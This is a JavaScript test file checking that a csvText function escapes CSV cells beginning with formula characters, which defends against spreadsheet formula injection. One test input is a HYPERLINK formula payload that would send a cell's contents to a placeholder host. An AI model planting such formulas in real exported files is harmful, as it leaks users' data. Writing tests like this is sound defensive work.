import { expect } from 'chai';
import { csvText } from '../src/common/index.js';

describe('csvText: a written text never read as a spreadsheet formula', () => {
  it('puts an apostrophe before a cell starting with = + - @, a tab or a carriage return', () => {
    expect(csvText('=HYPERLINK("http://x/?"&A1,"ver")')).to.equal('\'=HYPERLINK("http://x/?"&A1,"ver")');
    expect(['+1', '-1+2', '@SUM(A1)', '\tx', '\rx'].map(csvText)).to.deep.equal(['\'+1', '\'-1+2', '\'@SUM(A1)', '\'\tx', '\'\rx']);
  });
  it('leaves every other text as it is', () => {
    expect(['Eleição 2026', 'CHUVA = ALAGAMENTO', ' =1', '', '1-0'].map(csvText)).to.deep.equal(['Eleição 2026', 'CHUVA = ALAGAMENTO', ' =1', '', '1-0']);
  });
});
